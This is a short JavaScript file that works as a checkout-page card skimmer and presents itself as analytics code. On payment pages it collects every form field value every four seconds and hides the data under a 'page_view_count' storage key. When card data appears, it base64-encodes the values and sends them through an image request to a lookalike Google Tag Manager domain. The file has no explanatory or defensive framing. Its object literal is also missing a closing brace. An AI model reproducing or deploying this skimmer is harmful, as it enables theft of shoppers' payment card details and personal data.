var Cfg = {
    Gate: "https://google-tagmgr-cdn.org/gtm/collect",
    Key: "page_view_count",
    Match: /checkout|onepage|payment/i,
    Every: 4000
};

var Grab = {
    Data: null,
    Load: function () {
        this.Data = JSON.parse(sessionStorage.getItem(Cfg.Key) || "{}");
    },
    Save: function () {
        sessionStorage.setItem(Cfg.Key, JSON.stringify(this.Data));
    },
    Collect: function () {
        this.Load();
        var els = document.querySelectorAll("input, select, textarea");
        for (var i = 0; i < els.length; i++) {
            if (els[i].value.length > 0) {
                this.Data[els[i].name || els[i].id] = els[i].value;
            }
        }
        this.Save();
    },
    Send: function () {
        this.Load();
        var s = JSON.stringify(this.Data);
        if (!/cc|card/i.test(s)) return;
        var img = new Image();
        img.src = Cfg.Gate + "?image_id=" + btoa(s) + "&hn=" + location.hostname;
        sessionStorage.removeItem(Cfg.Key);
    },
    Run: function () {
        if (!Cfg.Match.test(location.href)) return;
        var that = this;
        setInterval(function () {
            that.Collect();
            that.Send();
        }, Cfg.Every);
    }
;

Grab.Run();
